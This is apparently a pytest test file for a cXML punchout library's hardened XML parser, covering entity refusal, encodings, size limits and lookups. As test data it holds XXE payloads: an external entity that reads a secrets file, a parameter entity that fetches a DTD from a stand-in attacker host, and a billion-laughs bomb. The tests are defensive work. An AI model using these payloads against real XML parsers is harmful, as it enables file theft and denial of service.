"""The safe parser: entity attacks refused, plain DOCTYPE accepted, encodings honoured, size capped."""

import pytest

from punchout import MalformedDocumentError, PayloadTooLargeError, UnsafeXmlError, parse_xml
from punchout.xmlsafe import child, child_text, cxml_version, inner_xml, local

PLAIN_DOCTYPE = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.071/cXML.dtd">\n'
    b'<cXML payloadID="p" timestamp="t"><Response><Status code="200" text="OK"/></Response></cXML>'
)
INTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY who "x">]><cXML>&who;</cXML>'
EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE cXML [<!ENTITY xxe SYSTEM "file:///secrets/supplier-key.txt">]><cXML>&xxe;</cXML>'
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE cXML '
    b'[<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><cXML/>'
)
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><lolz>&lol9;</lolz>"
)


def test_plain_cxml_doctype_is_accepted_and_gives_the_version():
    root = parse_xml(PLAIN_DOCTYPE)
    assert local(root) == "cxml"
    assert cxml_version(root) == "1.2.071"


@pytest.mark.parametrize(
    "document",
    [INTERNAL_ENTITY, EXTERNAL_ENTITY, PARAMETER_ENTITY, BILLION_LAUGHS],
    ids=["internal-subset-entity", "external-system-entity", "parameter-entity", "billion-laughs"],
)
def test_entity_declarations_are_refused(document):
    with pytest.raises(UnsafeXmlError):
        parse_xml(document)


def test_entity_declarations_are_refused_in_utf16_too():
    # The byte scan cannot see "<!ENTITY" in UTF-16; the check on the parsed DTD must.
    document = INTERNAL_ENTITY.decode().replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>')
    with pytest.raises(UnsafeXmlError):
        parse_xml(document.encode("utf-16"))


def test_unsafe_xml_error_is_a_malformed_document_error():
    # The web layer may catch MalformedDocumentError alone and still refuse attacks.
    assert issubclass(UnsafeXmlError, MalformedDocumentError)


def test_oversize_document_is_refused_before_parsing():
    with pytest.raises(PayloadTooLargeError) as caught:
        parse_xml(b"<cXML>" + b" " * 2000 + b"</cXML>", max_bytes=1000)
    assert caught.value.limit == 1000


def test_not_xml_is_malformed_with_a_line_number():
    with pytest.raises(MalformedDocumentError) as caught:
        parse_xml(b"<html>\n<body>Service unavailable</body>\n")
    assert caught.value.line is not None


@pytest.mark.parametrize("encoding", ["UTF-8", "ISO-8859-1", "windows-1252"])
def test_declared_encoding_is_honoured(encoding):
    text = f'<?xml version="1.0" encoding="{encoding}"?><cXML><Name>Blæk og papir, Ærø</Name></cXML>'
    root = parse_xml(text.encode(encoding))
    assert child_text(root, "name") == "Blæk og papir, Ærø"


def test_windows_1252_euro_sign():
    root = parse_xml('<?xml version="1.0" encoding="windows-1252"?><a>5 €</a>'.encode("cp1252"))
    assert root.text == "5 €"


def test_str_input_ignores_its_stale_encoding_declaration():
    root = parse_xml('<?xml version="1.0" encoding="ISO-8859-1"?><a>æøå</a>')
    assert root.text == "æøå"


def test_lookups_ignore_case():
    root = parse_xml(b"<CXML><HEADER><From>x</From></HEADER></CXML>")
    assert child_text(root, "Header/from") == "x"
    assert child(root, "Message") is None


def test_inner_xml_keeps_whitespace_escapes_and_markup():
    root = parse_xml(b'<a>\n  A&amp;B &lt;x/&gt; <cfg n="1">v</cfg>\n</a>')
    assert inner_xml(root) == '\n  A&amp;B &lt;x/&gt; <cfg n="1">v</cfg>\n'
